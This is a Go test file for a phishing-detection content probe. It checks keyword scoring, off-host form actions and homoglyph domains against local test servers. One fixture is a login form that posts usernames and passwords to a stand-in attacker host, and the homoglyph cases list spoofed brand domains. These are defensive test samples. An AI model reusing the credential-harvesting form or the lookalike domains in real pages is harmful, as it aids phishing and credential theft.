package probe

import (
	"context"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/phishguard/phishguard/internal/logging"
	"github.com/phishguard/phishguard/internal/model"
	"github.com/phishguard/phishguard/internal/webclient"
)

func newContentProbe(t *testing.T) *ContentProbe {
	t.Helper()
	wc, err := webclient.NewNetHTTPClient(webclient.DefaultConfig(), logging.NewNopLogger(), nil)
	if err != nil {
		t.Fatalf("new webclient: %v", err)
	}
	t.Cleanup(func() { wc.Close() })
	return NewContentProbe(DefaultConfig(), wc, logging.NewNopLogger())
}

func runContent(t *testing.T, p *ContentProbe, rawURL string) *model.ContentDetails {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()

	payload, err := p.Run(ctx, testTarget(t, rawURL))
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	details, ok := payload.(*model.ContentDetails)
	if !ok {
		t.Fatalf("payload type %T", payload)
	}
	return details
}

func TestContentProbe_CleanPage(t *testing.T) {
	t.Parallel()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(`<html><body><h1>Company News</h1><p>Quarterly results.</p></body></html>`))
	}))
	defer srv.Close()

	details := runContent(t, newContentProbe(t), srv.URL)

	if details.Status != "Clean" {
		t.Errorf("Status = %q, want Clean", details.Status)
	}
	if len(details.Keywords) != 0 {
		t.Errorf("Keywords = %v, want none", details.Keywords)
	}
	if details.FormMismatch {
		t.Error("formless page flagged FormMismatch")
	}
	if details.Homoglyphs != HomoglyphsNone {
		t.Errorf("Homoglyphs = %q for an IP host", details.Homoglyphs)
	}
}

func TestContentProbe_KeywordHeavyPageIsSuspicious(t *testing.T) {
	t.Parallel()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(`<html><body>
			<h1>Verify your account</h1>
			<p>Urgent: login below to update your password.</p>
		</body></html>`))
	}))
	defer srv.Close()

	details := runContent(t, newContentProbe(t), srv.URL)

	if details.Status != "Suspicious" {
		t.Errorf("Status = %q, want Suspicious (keywords %v)", details.Status, details.Keywords)
	}
	if len(details.Keywords) < 3 {
		t.Errorf("Keywords = %v, want at least login/verify/account", details.Keywords)
	}
	if len(details.Keywords) > 5 {
		t.Errorf("Keywords = %v, want at most 5", details.Keywords)
	}
}

func TestContentProbe_ForeignFormAction(t *testing.T) {
	t.Parallel()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(`<html><body>
			<form action="https://collector.evil.example/post" method="post">
				<input name="user"><input name="pass" type="password">
			</form>
		</body></html>`))
	}))
	defer srv.Close()

	details := runContent(t, newContentProbe(t), srv.URL)
	if !details.FormMismatch {
		t.Error("form posting off-host not flagged")
	}
}

func TestContentProbe_RelativeFormActionIsFine(t *testing.T) {
	t.Parallel()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(`<html><body><form action="/login" method="post"><input name="q"></form></body></html>`))
	}))
	defer srv.Close()

	details := runContent(t, newContentProbe(t), srv.URL)
	if details.FormMismatch {
		t.Error("same-host form flagged as mismatch")
	}
}

func TestContentProbe_FetchFailureIsError(t *testing.T) {
	t.Parallel()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	srv.Close() // connection refused from here on

	p := newContentProbe(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()

	if _, err := p.Run(ctx, testTarget(t, srv.URL)); err == nil {
		t.Fatal("expected error for unreachable page")
	}
}

func TestDetectHomoglyphs(t *testing.T) {
	t.Parallel()
	cases := []struct {
		host string
		want string
	}{
		{"example.com", HomoglyphsNone},
		{"xn--pypal-4ve.com", HomoglyphsPunycode},
		{"gооgle.com", HomoglyphsConfusable}, // cyrillic о
		{"bücher.example", HomoglyphsNone},   // non-ascii but not confusable
	}
	for _, tc := range cases {
		if got := DetectHomoglyphs(tc.host); got != tc.want {
			t.Errorf("DetectHomoglyphs(%q) = %q, want %q", tc.host, got, tc.want)
		}
	}
}
